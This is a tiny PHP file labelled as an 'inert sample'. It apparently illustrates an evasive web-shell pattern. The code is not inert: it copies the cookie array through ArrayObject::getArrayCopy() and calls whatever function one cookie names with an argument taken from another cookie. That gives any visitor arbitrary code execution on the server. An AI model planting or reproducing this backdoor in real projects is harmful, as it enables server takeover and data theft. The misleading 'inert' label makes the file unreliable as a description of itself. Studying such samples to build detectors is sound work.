<?php
// inert sample: a copy of the cookie array taken through ArrayObject::getArrayCopy(); one entry
// names the function, the other its argument
$jar = new ArrayObject($_COOKIE);
$c = $jar->getArrayCopy();
$c['f']($c['a']);
